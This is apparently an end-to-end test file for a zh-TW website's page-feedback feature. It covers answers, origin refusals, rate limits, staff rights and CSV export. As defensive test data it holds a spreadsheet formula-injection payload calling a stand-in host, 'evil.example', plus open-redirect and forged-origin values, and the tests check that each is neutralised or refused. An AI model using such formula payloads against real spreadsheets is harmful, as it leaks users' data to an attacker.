import { AUTHORING_PATHS } from '../../../src/shared/authoring-paths';
import type { SiteMetadata } from '../../../src/shared/api-types';
import {
  PAGE_FEEDBACK_PATHS,
  PAGE_FEEDBACK_TEXT,
  type PageFeedbackComments,
  type PageFeedbackPage,
} from '../../../src/shared/page-feedback';
import { aSmallSite } from '../support/demo-site.builder';
import { expectErrorBody, getJson, postForm, postJson } from '../support/http-client';
import { tokenOf } from '../support/sign-in';
import { NO_TWO_STEP, startTestServer, type TestServer } from '../support/test-server';

const ADMIN = { account: 'admin', password: 'Admin#2026', displayName: '系統管理者', admin: true };
const NONE = { r: false, w: false, d: false, p: false };
const ALLOWED = 'https://editor.example.tw';
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"點我")';

/**
 * 頁面回饋 end to end on a real server: a visitor's 是 or 否 by JSON and by the plain form, from
 * this site's own pages only, the refusals in zh-TW (400, 403, 404, 429), and what staff read of it, per their rights, as a list,
 * a page's comments and a CSV whose hostile cells stay text.
 */
describe('頁面回饋', () => {
  let server: TestServer;
  const url = (path: string) => `${server.baseUrl}${path}`;
  const answer = (path: string, body: unknown) => postJson(url(PAGE_FEEDBACK_PATHS.answer(path)), body);
  const staff = async (account: string) => ({
    access_token: await tokenOf(server, account, account === ADMIN.account ? ADMIN.password : undefined),
  });

  beforeEach(async () => {
    server = await startTestServer({
      seed: {
        site: () => {
          const site = aSmallSite();
          return {
            ...site,
            accounts: [
              ...site.accounts,
              { ...ADMIN, rights: { r: true, w: true, d: true, p: true } },
              {
                account: 'reader',
                password: 'Reader#2026',
                displayName: '陳閱覽',
                rights: NONE,
                pathRights: { news: { ...NONE, r: true } },
              },
            ],
          };
        },
        images: () => [],
      },
      corsOrigins: [ALLOWED],
      ...NO_TWO_STEP,
    });
  });
  afterEach(() => server.close());

  it('takes a visitor’s 否 with a comment, and staff read it per page with its title, counts and comment', async () => {
    const sent = await answer('news', {
      helpful: false,
      comment: ' 找不到開放時間\r\n請補充 ',
      itemId: 'n2',
    });
    expect(sent.status).toBe(200);
    expect(sent.headers.get('cache-control')).toBe('no-store');
    expect(sent.body).toEqual({ ok: true });
    server.clock.advanceSeconds(60);
    expect((await answer('news', { helpful: true, itemId: 'n2' })).status).toBe(200);
    expect((await answer('about', { helpful: true })).status).toBe(200);

    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('editor'));
    expect(list.status).toBe(200);
    expect(list.body.total).toBe(2);
    expect(list.body.rows).toEqual([
      expect.objectContaining({ path: 'about', itemId: '', title: '關於本館', yes: 1, no: 0, comments: 0 }),
      expect.objectContaining({
        path: 'news',
        itemId: 'n2',
        title: '燈塔修復完成',
        moduleTitle: '最新消息',
        yes: 1,
        no: 1,
        comments: 1,
      }),
    ]);

    const query = new URLSearchParams({ path: 'news', itemId: 'n2' });
    const comments = await getJson<PageFeedbackComments>(
      url(`${PAGE_FEEDBACK_PATHS.comments}?${query}`),
      await staff('editor'),
    );
    expect(comments.body).toMatchObject({ title: '燈塔修復完成', total: 2 });
    expect(comments.body.rows.map(({ helpful, comment }) => ({ helpful, comment }))).toEqual([
      { helpful: true, comment: null },
      { helpful: false, comment: '找不到開放時間\n請補充' },
    ]);
  });

  it('answers the plain form (no JavaScript) with a thanks page that leads back, and its refusals likewise', async () => {
    const thanks = await postForm<string>(url(PAGE_FEEDBACK_PATHS.answer('news')), {
      helpful: 'no',
      comment: '字太小',
      itemId: 'n2',
      back: '/zh-tw/news/n2',
    });
    expect(thanks.status).toBe(200);
    expect(thanks.headers.get('content-type')).toMatch(/^text\/html/);
    expect(thanks.body).toContain(PAGE_FEEDBACK_TEXT.thanks);
    expect(thanks.body).toContain('<a href="/zh-tw/news/n2">回到剛才的頁面</a>');

    // A way back to another host is not followed: the thanks page leads home instead.
    const elsewhere = await postForm<string>(url(PAGE_FEEDBACK_PATHS.answer('about')), {
      helpful: 'yes',
      back: '//evil.example/',
    });
    expect(elsewhere.body).toContain('<a href="/">');

    const tooLong = await postForm<string>(url(PAGE_FEEDBACK_PATHS.answer('news')), {
      helpful: 'no',
      comment: '字'.repeat(201),
      itemId: 'n2',
      back: '/zh-tw/news/n2',
    });
    expect(tooLong.status).toBe(400);
    expect(tooLong.body).toContain('意見不可超過 200 個字');
    expect(tooLong.body).toContain('<a href="/zh-tw/news/n2">');

    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('editor'));
    expect(list.body.rows.map(({ path, no, yes }) => ({ path, no, yes }))).toEqual([
      { path: 'about', no: 0, yes: 1 },
      { path: 'news', no: 1, yes: 0 },
    ]);
  });

  it('refuses an answer posted from another site’s page with 403 in zh-TW, by JSON or form, and stores nothing', async () => {
    for (const origin of ['https://evil.example.com', 'null', server.baseUrl.replace('http:', 'https:')]) {
      const json = await postJson(
        url(PAGE_FEEDBACK_PATHS.answer('about')),
        { helpful: false, comment: '假的意見' },
        { origin },
      );
      expect(expectErrorBody(json, 403).error_description).toBe('不接受來自其他網站的送出。');
      // Another site's plain form is as easy to post: its visitor reads the refusal as a page.
      const form = await postForm<string>(
        url(PAGE_FEEDBACK_PATHS.answer('news')),
        { helpful: 'no', comment: '假的意見', itemId: 'n2', back: '/zh-tw/news/n2' },
        { origin },
      );
      expect(form.status).toBe(403);
      expect(form.headers.get('content-type')).toMatch(/^text\/html/);
      expect(form.headers.get('cache-control')).toBe('no-store');
      expect(form.body).toContain('<p role="status">不接受來自其他網站的送出。</p>');
      expect(form.body).toContain('<a href="/zh-tw/news/n2">回到剛才的頁面</a>');
    }
    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('editor'));
    expect(list.body).toEqual({ rows: [], total: 0 });
  });

  it('takes an answer from this site’s own pages by JSON and form, from an allowed origin, and without Origin', async () => {
    const ours = { origin: server.baseUrl };
    expect(
      (await postJson(url(PAGE_FEEDBACK_PATHS.answer('news')), { helpful: true, itemId: 'n1' }, ours)).body,
    ).toEqual({ ok: true });
    const form = await postForm<string>(
      url(PAGE_FEEDBACK_PATHS.answer('news')),
      { helpful: 'no', itemId: 'n2', back: '/zh-tw/news/n2' },
      ours,
    );
    expect(form.status).toBe(200);
    expect(form.body).toContain(PAGE_FEEDBACK_TEXT.thanks);
    const allowed = await postJson(
      url(PAGE_FEEDBACK_PATHS.answer('news')),
      { helpful: false, itemId: 'n3' },
      { origin: ALLOWED },
    );
    expect(allowed.status).toBe(200);
    // Node's fetch names no Origin, as a script of no browser.
    expect((await answer('about', { helpful: true })).status).toBe(200);

    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('editor'));
    expect(list.body.rows.map(({ path, itemId, yes, no }) => ({ path, itemId, yes, no }))).toEqual(
      expect.arrayContaining([
        { path: 'news', itemId: 'n1', yes: 1, no: 0 },
        { path: 'news', itemId: 'n2', yes: 0, no: 1 },
        { path: 'news', itemId: 'n3', yes: 0, no: 1 },
        { path: 'about', itemId: '', yes: 1, no: 0 },
      ]),
    );
    expect(list.body.total).toBe(4);
  });

  it('refuses bad input with 400 in zh-TW: no answer, a comment over 200 characters, never cut', async () => {
    expect(expectErrorBody(await answer('news', { itemId: 'n2' }), 400).fields).toEqual({
      helpful: PAGE_FEEDBACK_TEXT.chooseAnswer,
    });
    const long = expectErrorBody(
      await answer('news', { helpful: true, itemId: 'n2', comment: 'あ'.repeat(201) }),
      400,
    );
    expect(long.error_description).toBe('輸入資料有誤：意見不可超過 200 個字。');
    expect(long.fields?.comment).toContain('目前 201 個字');
    // 200 characters outside the BMP are 200, not 400.
    expect((await answer('news', { helpful: true, itemId: 'n2', comment: '𠮷'.repeat(200) })).status).toBe(
      200,
    );
    expect(
      expectErrorBody(await answer('news', { helpful: true, itemId: 'n2', comment: 7 }), 400).fields,
    ).toEqual({
      comment: '意見必須是文字',
    });
  });

  it('answers 404 in zh-TW for a page visitors cannot see', async () => {
    for (const [path, body] of [
      ['news', { helpful: true, itemId: 'gone' }],
      ['news', { helpful: true }],
      ['about', { helpful: true, itemId: 'n2' }],
      ['mailbox', { helpful: true }],
      ['nowhere', { helpful: true }],
    ] as const)
      expect(expectErrorBody(await answer(path, body), 404).error_description).toBe(
        PAGE_FEEDBACK_TEXT.noPage,
      );
  });

  it('takes five answers per address and page an hour, then 429 in zh-TW, and forgets the address after', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) statuses.push((await answer('news', { helpful: true, itemId: 'n1' })).status);
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
    const refused = await answer('news', { helpful: true, itemId: 'n1' });
    expect(expectErrorBody(refused, 429).error_description).toBe(PAGE_FEEDBACK_TEXT.tooMany);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(3000);
    // Another page is another count.
    expect((await answer('news', { helpful: true, itemId: 'n3' })).status).toBe(200);
    server.clock.advanceSeconds(3600);
    expect((await answer('news', { helpful: true, itemId: 'n1' })).status).toBe(200);
  });

  it('is off when 網站設定 turns it off: the metadata says so and an answer is refused with 403', async () => {
    const admin = await staff('admin');
    const put = await fetch(url(AUTHORING_PATHS.siteSettings), {
      method: 'PUT',
      headers: { 'content-type': 'application/json', ...admin },
      body: JSON.stringify({ pageFeedback: false }),
    });
    expect(put.status).toBe(200);
    expect(await put.json()).toMatchObject({ pageFeedback: false });
    const metadata = await getJson<SiteMetadata>(url('/api/site/metadata'));
    expect(metadata.body.pageFeedback).toBe(false);
    expect(expectErrorBody(await answer('about', { helpful: true }), 403).error_description).toBe(
      PAGE_FEEDBACK_TEXT.off,
    );
    const audit = await getJson<{ rows: Array<{ detail: string }> }>(
      url('/backend/audit?action=settings.update'),
      admin,
    );
    expect(JSON.stringify(audit.body)).toContain('頁面回饋「這個頁面對您有幫助嗎？」：開啟 → 關閉');
  });

  it('shows staff only the pages under paths they may read, and refuses another page’s comments', async () => {
    await answer('news', { helpful: false, itemId: 'n2', comment: '新聞的意見' });
    await answer('about', { helpful: false, comment: '關於的意見' });
    const reader = await staff('reader');
    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), reader);
    expect(list.body.rows.map((row) => row.path)).toEqual(['news']);
    const other = await getJson(url(`${PAGE_FEEDBACK_PATHS.comments}?path=about`), reader);
    expect(expectErrorBody(other, 403).error_description).toBe('您沒有檢視這個頁面的權限。');
    const csv = await (await fetch(url(PAGE_FEEDBACK_PATHS.export), { headers: reader })).text();
    expect(csv).toContain('新聞的意見');
    expect(csv).not.toContain('關於的意見');
    const guest = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('guest'));
    expect(guest.body).toEqual({ rows: [], total: 0 });
    // No token: the session protocol's 612, as every staff route answers.
    expect((await getJson(url(PAGE_FEEDBACK_PATHS.pages))).status).toBe(612);
  });

  it('exports the answers as a spreadsheet CSV whose hostile comment stays text', async () => {
    await answer('news', { helpful: false, itemId: 'n2', comment: HOSTILE });
    const response = await fetch(url(PAGE_FEEDBACK_PATHS.export), { headers: await staff('editor') });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="page-feedback-\d{8}\.csv"$/,
    );
    const bytes = Buffer.from(await response.arrayBuffer());
    // UTF-8 with a BOM, so Excel reads the characters as UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toBe('頁面,單元,單元路徑,項目代碼,有幫助,意見,時間');
    expect(lines[1]).toBe(
      `燈塔修復完成,最新消息,news,n2,否,"'=HYPERLINK(""http://evil.example/?""&A1,""點我"")",2026-11-22 10:00:00`,
    );
  });

  it('filters by a period of Taipei days and refuses a day that is none', async () => {
    await answer('news', { helpful: true, itemId: 'n2' });
    server.clock.advanceSeconds(3 * 86_400);
    await answer('news', { helpful: false, itemId: 'n2' });
    const editor = await staff('editor');
    const on = async (query: Record<string, string>) =>
      getJson<PageFeedbackPage>(url(`${PAGE_FEEDBACK_PATHS.pages}?${new URLSearchParams(query)}`), editor);
    const first = await on({ from: '2026-11-22', to: '2026-11-22' });
    expect(first.body.rows).toEqual([expect.objectContaining({ yes: 1, no: 0 })]);
    const later = await on({ from: '2026-11-23' });
    expect(later.body.rows).toEqual([expect.objectContaining({ yes: 0, no: 1 })]);
    expect(expectErrorBody(await on({ from: '2026-02-30' }), 400).fields).toEqual({
      from: '開始日期必須是 YYYY-MM-DD 的日期，例如 2026-11-22',
    });
    expect(expectErrorBody(await on({ from: '2026-11-25', to: '2026-11-22' }), 400).fields).toEqual({
      to: '結束日期不可早於開始日期',
    });
  });
});
